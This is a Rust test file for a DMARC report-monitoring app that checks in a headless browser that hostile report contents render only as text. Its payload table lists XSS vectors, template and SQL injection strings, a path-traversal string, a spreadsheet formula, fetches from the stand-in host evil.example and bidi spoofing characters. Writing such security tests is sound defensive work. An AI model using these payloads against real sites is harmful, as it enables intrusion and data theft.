//! Debian's Chromium, headless, through all that the page does: `tests/browser`.

use std::path::PathBuf;
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use tallymark::base::Permission;

use super::fill;
use crate::domains::named::Named;
use crate::http::{Ask, FAIL, PASS, Row, Sample, TestApp, form};
use crate::notify::mail::{READER, dead_server, mailing};

/// Runs a script of `tests/browser`, which ends with an error when something is not as it should be.
pub(super) async fn run(script: &str, args: &[&str]) {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let modules = root.join("target/browser");
    assert!(
        modules.join("node_modules/playwright-core").is_dir(),
        "./test installs what the browser tests need"
    );
    let mut command = Command::new("node");
    command
        .arg(root.join("tests/browser").join(script))
        .args(args)
        .env("BROWSER_MODULES", &modules)
        .stdin(Stdio::null());
    let output = tokio::task::spawn_blocking(move || command.output())
        .await
        .unwrap()
        .unwrap();
    assert!(
        output.status.success(),
        "{script}: {}\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn everything_that_the_page_does_works_in_a_browser() {
    let mut named = Named::start();
    named.text("new.example", &["v=spf1 include:spf.tally.example ~all"]);
    named.text("spf.tally.example", &["v=spf1 ip4:192.0.2.1 -all"]);
    named.reload().await;
    let app = TestApp::start_signing(named.dns()).await;
    fill(&app).await;
    let domains = app.get("/domains").await.expect(200);
    let domain = domains["domains"][0]["id"].as_str().unwrap();
    app.find(domain, "Shop").await;
    let reading = app.key(Permission::ReadOnly, None).await;
    let (report, broken) = (
        app.folder.path().join("report.xml"),
        app.folder.path().join("broken.xml"),
    );
    std::fs::write(&report, Sample::new("example.com", "uploaded", &[PASS]).xml()).unwrap();
    std::fs::write(&broken, "<feedback>").unwrap();
    let origin = format!("http://{}", app.address);
    let files = [report.to_str().unwrap(), broken.to_str().unwrap()];
    run("walk.mjs", &[&origin, &app.key, &reading, files[0], files[1]]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_are_whole_at_every_width_without_colours_and_by_ear() {
    let app = TestApp::start().await;
    let domain = app.add_domain("example.com").await;
    // A thousand reports, each with as many messages as one may have.
    for hundred in 0..10 {
        let reports: Vec<_> = (0..100)
            .map(|nth| {
                let count = 999_999_999_000 - hundred * 100 - nth;
                let row = Row {
                    source: "192.0.2.7",
                    count,
                    ..PASS
                };
                Sample::new("example.com", &count.to_string(), &[row]).xml()
            })
            .collect();
        let files: Vec<&[u8]> = reports.iter().map(Vec::as_slice).collect();
        let (media_type, body) = form(&files);
        let ask = Ask::new("POST", &format!("/domains/{domain}/dmarc/reports")).key(&app.key);
        let taken = app.send(ask.body(&media_type, body)).await.expect(201);
        assert_eq!(taken["reports"].as_array().unwrap().len(), 100);
    }
    let other = app
        .add_domain("münchner-straßenbahn-mit-einem-langen-namen.example")
        .await;
    let name = "xn--mnchner-straenbahn-mit-einem-langen-namen-mjd94j.example";
    for (nth, org_name) in [
        "bigmail.example",
        "Enterprise Outlook of a Company With a Long Name",
        "x",
    ]
    .into_iter()
    .enumerate()
    {
        let passing = Row {
            count: 12_345_678 + nth as u64,
            ..PASS
        };
        let mut sample = Sample::new(name, &format!("r{nth}"), &[passing, FAIL]);
        sample.org_name = org_name.to_owned();
        app.upload(&other, sample.xml()).await;
    }
    app.upload(&domain, "<feedback>").await;
    let origin = format!("http://{}", app.address);
    run("looks.mjs", &[&origin, &app.key]).await;
}

/// Fragments of markup and script, and of text that turns lines around.
#[expect(clippy::too_many_lines, reason = "a table")]
fn payloads() -> Vec<String> {
    let mark = "attacked.push(1)";
    let templates = [
        "<script>MARK</script>",
        "</title><script>MARK</script>",
        "</td></tr></table><script>MARK</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "<img src=x onerror=MARK>",
        "<img/src/onerror=MARK>",
        "\"><img src=x onerror=\"MARK\">",
        "' onmouseover='MARK' x='",
        "\" autofocus onfocus=\"MARK\" x=\"",
        "<svg onload=MARK>",
        "<svg><script>MARK</script></svg>",
        "<svg><animate onbegin=MARK attributeName=x dur=1s>",
        "<math><mtext></mtext><script>MARK</script></math>",
        "<iframe src=\"javascript:MARK\"></iframe>",
        "<iframe srcdoc=\"<script>MARK</script>\"></iframe>",
        "<a href=\"javascript:MARK\">click</a>",
        "javascript:MARK",
        "data:text/html,<script>MARK</script>",
        "<body onload=MARK>",
        "<details open ontoggle=MARK>",
        "<video><source onerror=MARK></video>",
        "<audio src=x onerror=MARK>",
        "<object data=\"//evil.example/x\"></object>",
        "<embed src=\"//evil.example/x\">",
        "<base href=\"//evil.example/\">",
        "<link rel=stylesheet href=\"//evil.example/x.css\">",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<style>@import \"//evil.example/x.css\";</style>",
        "<form action=\"//evil.example/\"><input type=submit>",
        "<marquee onstart=MARK>x</marquee>",
        "<template><script>MARK</script></template>",
        "<textarea></textarea><script>MARK</script>",
        "<!--<script>MARK</script>-->",
        "--><script>MARK</script>",
        "<![CDATA[<script>MARK</script>]]>",
        "<?php MARK ?>",
        "{{constructor.constructor('MARK')()}}",
        "${MARK}",
        "#{MARK}",
        "<%= MARK %>",
        "\\x3cscript\\x3eMARK\\x3c/script\\x3e",
        "\\u003cscript\\u003eMARK\\u003c/script\\u003e",
        "&lt;script&gt;MARK&lt;/script&gt;",
        "&#60;script&#62;MARK&#60;/script&#62;",
        "%3Cscript%3EMARK%3C/script%3E",
        "+ADw-script+AD4-MARK+ADw-/script+AD4-",
        "<scr<script>ipt>MARK</scr</script>ipt>",
        "<<script>MARK//<</script>",
        "<a href=\"\\u0001javascript:MARK\">x</a>",
        "<x onclick=MARK>click</x>",
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "'; drop table reports; --",
        "\" or 1=1 --",
        "../../../../etc/passwd",
        "</script><script>MARK</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=MARK>\">",
        "<p style=\"background:url(//evil.example/x)\">",
        "<div style=\"position:fixed;inset:0\">over all</div>",
        "<input type=image src=x onerror=MARK>",
        "<select autofocus onfocus=MARK>",
        "<button formaction=\"javascript:MARK\">x</button>",
        "<table background=\"//evil.example/x\">",
        "<bdo dir=rtl>turned</bdo>",
        "</bdi></td><td>next cell",
        "<bdi></bdi></bdi></bdi>",
        "<!DOCTYPE html><html><body onload=MARK>",
        "<link rel=prefetch href=//evil.example/>",
        "<img srcset=\"//evil.example/x 1x\">",
        "<input onfocus=MARK autofocus>",
        "<slot onslotchange=MARK>",
    ];
    let mut payloads: Vec<String> = templates.iter().map(|text| text.replace("MARK", mark)).collect();
    // Controls of direction, joiners and other signs that leave no trace: before, around and inside a text.
    for sign in [
        '\u{202a}', '\u{202b}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{200e}',
        '\u{200f}', '\u{61c}', '\u{200b}', '\u{200d}', '\u{2060}', '\u{feff}',
    ] {
        payloads.push(format!("moc.elpmaxe{sign}gnp.exe"));
        payloads.push(format!("x{sign}{sign}{sign}<b>fail</b>"));
    }
    payloads
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&apos;")
}

/// A report with `payload` in every field that is a text.
fn attack(nth: usize, payload: &str) -> String {
    let text = escaped(payload);
    let begin = 1_774_137_600 - 86_400 * (nth as i64 % 20);
    format!(
        "<?xml version=\"1.0\"?><feedback><version>{text}</version><report_metadata><org_name>{text}</org_name>\
         <email>{text}</email><extra_contact_info>{text}</extra_contact_info><report_id>{text}</report_id>\
         <date_range><begin>{begin}</begin><end>{}</end></date_range><error>{text}</error><generator>{text}</generator>\
         </report_metadata><policy_published><domain>example.com</domain><adkim>{text}</adkim><p>{text}</p><fo>{text}</fo>\
         </policy_published><record><row><source_ip>198.51.100.1</source_ip><count>1</count><policy_evaluated>\
         <disposition>{text}</disposition><dkim>{text}</dkim><spf>{text}</spf><reason><type>{text}</type>\
         <comment>{text}</comment></reason></policy_evaluated></row><identifiers><header_from>{text}</header_from>\
         <envelope_from>{text}</envelope_from><envelope_to>{text}</envelope_to></identifiers><auth_results><dkim>\
         <domain>{text}</domain><selector>{text}</selector><result>{text}</result><human_result>{text}</human_result></dkim>\
         <spf><domain>{text}</domain><scope>{text}</scope><result>{text}</result><human_result>{text}</human_result></spf>\
         </auth_results></record><record><row><source_ip>{text}</source_ip><count>{text}</count></row></record></feedback>",
        begin + 86_400
    )
}

/// Snoozes the newest finding with a note, and names a channel and a digest, if the limits allow it.
async fn snooze_and_name(app: &TestApp, text: &str) {
    let list = app.get("/findings?per_page=1").await.expect(200);
    let path = format!("/findings/{}/snooze", list["findings"][0]["id"].as_str().unwrap());
    let snooze = json!({ "until": "2026-03-30T00:00:00Z", "note": text });
    app.send(Ask::new("PUT", &path).key(&app.key).json(&snooze)).await;
    let config = json!({ "webhookUrl": "http://127.0.0.1:9/" });
    let channel = json!({ "type": "slack", "name": text, "events": ["*"], "config": config });
    app.post("/notification-channels", &channel).await;
    let digest = json!({ "name": text, "email": READER, "period": "weekly" });
    app.post("/digests", &digest).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_a_report_says_is_text() {
    let app = TestApp::start_telling(mailing(dead_server(), None)).await;
    let domain = app.add_domain("example.com").await;
    let hook = json!({ "url": "http://127.0.0.1:9/", "events": ["*"] });
    app.post("/webhooks", &hook).await.expect(201);
    let mut attacks: Vec<Value> = Vec::new();
    for (nth, payload) in payloads().iter().enumerate() {
        let taken = app.upload(&domain, attack(nth, payload)).await;
        let report = taken["reports"][0]["id"]
            .as_i64()
            .unwrap_or_else(|| panic!("{payload}: {taken}"));
        // Names and notes of owners are refused only for their length and for control characters.
        let network = format!("198.51.{nth}.0/24");
        let decision = json!({ "kind": "network", "subject": network, "name": payload, "note": payload });
        let path = format!("/domains/{domain}/dmarc/decisions");
        let decided = app.post(&path, &decision).await.status == 200;
        app.find(&domain, payload).await;
        snooze_and_name(&app, payload).await;
        attacks.push(json!({ "payload": payload, "report": report, "decided": decided }));
        app.change_record(&domain, nth as i64 % 20, (payload, "v=DMARC1; p=none"))
            .await;
        // The same in what cannot be read.
        app.upload(&domain, format!("<feedback><{}", escaped(payload))).await;
    }
    let file = app.folder.path().join("attacks.json");
    std::fs::write(&file, serde_json::to_vec(&attacks).unwrap()).unwrap();
    let origin = format!("http://{}", app.address);
    run("hostile.mjs", &[&origin, &app.key, file.to_str().unwrap()]).await;
}
